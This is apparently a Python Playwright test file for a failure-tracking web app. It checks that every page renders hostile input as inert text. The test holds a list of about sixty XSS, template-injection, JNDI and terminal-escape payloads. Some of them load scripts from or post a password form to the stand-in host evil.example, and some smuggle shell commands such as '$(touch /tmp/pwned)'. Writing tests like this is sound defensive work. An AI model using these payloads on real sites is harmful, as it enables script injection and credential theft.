"""Event text in a real browser is text: no payload in any field makes an element, runs, or escapes into the page."""

from collections.abc import Callable
from typing import Any
from urllib.parse import quote

from playwright.sync_api import Page, expect
from service_site import Site

from connectors.base import Auth
from service.store.connections import create_connection
from service.store.handling import add_note
from service.web.highlight import mark_invisible

PAYLOADS = (
    "<script>window.pwned=1</script>",
    '"><script>window.pwned=1</script>',
    "'><img src=x onerror=window.pwned=1>",
    '" onmouseover="window.pwned=1" autofocus onfocus="window.pwned=1',
    "<svg/onload=window.pwned=1>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "</title><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</code></pre><iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "</option></select><img src=x onerror=window.pwned=1>",
    "<style>@import 'http://evil.example/x.css';</style><link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/><form action=//evil.example><input name=password></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:window.pwned=1">',
    "<a href=\"javascript:window.pwned=1\">click</a>",
    "javascript:window.pwned=1//https://example.com/",
    "data:text/html,<script>window.pwned=1</script>",
    "{{ 7*7 }}${7*7}{% include '/etc/passwd' %}",
    "<!--><script>window.pwned=1</script>--><![CDATA[<script>window.pwned=1</script>]]>",
    "\u202egnp.exe\u2066\u200b\x1b]8;;http://evil.example\x07x\x1b[2J",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.pwned=1&gt;\">",
    "<img src=x onerror=window.pwned=1>",
    "<img/src/onerror=window.pwned=1>",
    "<IMG SRC=JaVaScRiPt:window.pwned=1>",
    "<img src=`x` onerror=`window.pwned=1`>",
    "<image href=x onerror=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<audio src onerror=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<select autofocus onfocus=window.pwned=1>",
    "<marquee onstart=window.pwned=1>",
    "<body onload=window.pwned=1>",
    "<object data='javascript:window.pwned=1'></object>",
    "<embed src='data:text/html,<script>parent.pwned=1</script>'>",
    "<form><button formaction=javascript:window.pwned=1>x</button></form>",
    "<isindex action=javascript:window.pwned=1 type=image>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.pwned=1>#x'/></svg>",
    "<template><script>window.pwned=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<link rel=preload href=//evil.example/x as=script onload=window.pwned=1>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>window.pwned=1</script>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e",
    "';window.pwned=1;//\";window.pwned=1;//`;window.pwned=1;//",
    "{{ self.__init__.__globals__ }}{{ config }}{{ ''.__class__.__mro__ }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "<%= 7*7 %>#{7*7}*{7*7}@(7*7)[[${7*7}]]{{constructor.constructor('window.pwned=1')()}}",
    "${jndi:ldap://evil.example/x}$(touch /tmp/pwned)`touch /tmp/pwned`",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b]52;c;ZXZpbA==\x07",
    "\x1b[1A\x1b[2K\rall is well\x08\x08\x7f\x9b2J",
    "\u2028window.pwned=1\u2029\ufeff\u00ad\u180e\ufff9x\ufffb",
    "\U000e0041\U000e0042\u061c\u200e\u200f\u2068hidden\u2069",
)  # fmt: skip
TOGETHER = [" ".join(PAYLOADS[at : at + 3]) for at in range(0, len(PAYLOADS), 3)]
FOREIGN = """() => ({
    pwned: window.pwned,
    scripts: [...document.scripts].filter((one) => new URL(one.src || "x:y", location.href).pathname !== "/static/app.js").length,
    handlers: [...document.querySelectorAll("*")].flatMap((one) => one.getAttributeNames()).filter((name) => name.startsWith("on")).length,
    elements: document.querySelectorAll("iframe, svg:not(figure.chart svg, svg.bar), math, style, object, embed, base, template, img:not(.brand img)").length,
    styles: document.querySelectorAll("[style]").length,
    links: [...document.querySelectorAll("[href], [src], [action]")].filter((one) =>
        !/^https?:$/.test(new URL(one.getAttribute("href") ?? one.getAttribute("src") ?? one.getAttribute("action"), location.href).protocol)).length,
    away: [...document.forms].filter((one) => new URL(one.getAttribute("action") ?? "", location.href).origin !== location.origin).length,
})"""  # noqa: E501 - JavaScript
CLEAN = {"pwned": None, "scripts": 0, "handlers": 0, "elements": 0, "styles": 0, "links": 0, "away": 0}


def hostile(evil: str) -> dict[str, Any]:
    artifact = {"kind": "config", "title": evil, "content": evil, "placeholders": [evil], "apply": evil}
    return {
        **dict.fromkeys(("title", "explanation", "principal", "action", "resource", "system"), evil),
        "missing_permissions": [evil],
        "fix": {"summary": evil, "steps": [evil], "risk": evil, "undo": evil, "artifacts": [artifact]},
        "verify": {"command": evil, "expect": evil},
        "references": [evil],
        "evidence": [{"quote": evil, "start": 0, "end": len(evil), "field": evil}],
        "produced_by": {"kind": "rule", "rule": evil, "version": evil},
    }


def test_payloads_in_every_field_stay_text(site: Site, open_page: Callable[..., Page]) -> None:
    page = open_page("/")
    assert len(PAYLOADS) == 60
    for number, evil in enumerate(TOGETHER):
        stored = site.seed(number, evil, answer=hostile(evil), service_name=evil, environment=evil, stacktrace=evil,
                           url=evil)  # fmt: skip
        page.goto(f"/failures/{stored.failure_id}")
        assert page.evaluate(FOREIGN) == CLEAN, evil
        shown = mark_invisible(evil)
        assert page.locator("h1").evaluate("(one) => one.textContent") == shown
        assert page.locator("#event-text").evaluate("(one) => one.textContent") == shown
        assert page.locator("#artifact-1").evaluate("(one) => one.textContent") == shown
        page.goto(f"/failures/{stored.failure_id}/correct")
        assert page.evaluate(FOREIGN) == CLEAN, evil
        assert page.get_by_label("Explanation").input_value() == shown
        page.goto(f"/failures/{stored.failure_id}/alike?fill-{quote(evil)}={quote(evil)}")
        assert page.evaluate(FOREIGN) == CLEAN, evil
        with site.services.engine.begin() as conn:
            add_note(conn, stored.failure_id or "", evil, evil)
    page.goto("/")
    expect(page.locator("[data-row]")).to_have_count(len(TOGETHER))
    assert page.evaluate(FOREIGN) == CLEAN
    ticked = f"/alike?pick={stored.failure_id}&pick=x"
    for path in ("/insights", "/prompts", "/audit", "/?status=snoozed&sort=priority", ticked):
        page.goto(path)
        assert page.evaluate(FOREIGN) == CLEAN, path


def test_a_pasted_payload_and_an_unread_delivery_stay_text(site: Site, open_page: Callable[..., Page]) -> None:
    evil = "permission denied for table x " + " ".join(PAYLOADS)
    page = open_page("/explain")
    page.get_by_label("Error text").fill(evil.replace("\x00", ""))
    page.get_by_role("button", name="Explain", exact=True).click()
    expect(page.get_by_role("heading", name="A role may not use table x")).to_be_visible()
    assert page.evaluate(FOREIGN) == CLEAN
    site.seed_unparsed(evil, reason=evil)
    page.goto("/sources")
    assert page.evaluate(FOREIGN) == CLEAN
    page.get_by_role("link", name="permission denied for table x").click()
    assert page.evaluate(FOREIGN) == CLEAN


def test_a_refused_sender_stays_text(site: Site, open_page: Callable[..., Page]) -> None:
    with site.services.engine.begin() as conn:
        create_connection(conn, site.services.keyring, "refusing", "generic", Auth("bearer", ("a-secret-" + "of-it",)))
    for evil in TOGETHER:
        site.services.refusals.note("refusing", outcome="unauthenticated", status=401, detail=evil, user_agent=evil)
    site.services.refusals.write()
    page = open_page("/sources/refusing")
    expect(page.locator("td.agent")).to_have_count(len(TOGETHER))
    assert page.evaluate(FOREIGN) == CLEAN
    page.goto("/sources")
    assert page.evaluate(FOREIGN) == CLEAN


def test_a_hostile_address_stays_text(open_page: Callable[..., Page]) -> None:
    page = open_page("/")
    for path in ("/?q={}&service={}&cursor={}", "/rules?q={}&system={}", "/failures/{}", "/login?next={}", "/{}"):
        for evil in ('"><img src=x onerror=window.pwned=1>', "javascript:window.pwned=1", "//evil.example"):
            page.goto(path.replace("{}", evil.replace("#", "%23").replace("/", "%2F")))
            assert page.evaluate(FOREIGN) == CLEAN, path
